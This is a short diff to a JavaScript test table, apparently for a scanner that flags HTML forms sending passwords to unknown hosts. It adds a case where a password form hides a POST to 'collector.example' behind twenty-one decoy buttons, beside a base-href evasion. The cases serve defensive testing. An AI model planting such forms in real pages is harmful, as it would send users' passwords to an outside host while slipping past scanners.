@@ -24,6 +24,13 @@ const CASES = /** @type {const} */ ([
     "form_password_to_unknown",
   ],
   [
+    "a dialog's form whose button stands behind more than are read",
+    `<form action="https://collector.example/" method="dialog">${PASSWORD}${"<button>No</button>".repeat(21)}` +
+      `<button formmethod="post">Sign in</button></form>`,
+    "",
+    "form_password_to_unknown",
+  ],
+  [
     "an action of a space, under a base elsewhere",
     `<base href="https://collector.example/"><form action="&nbsp;" method="post">${PASSWORD}</form>`,
     "",
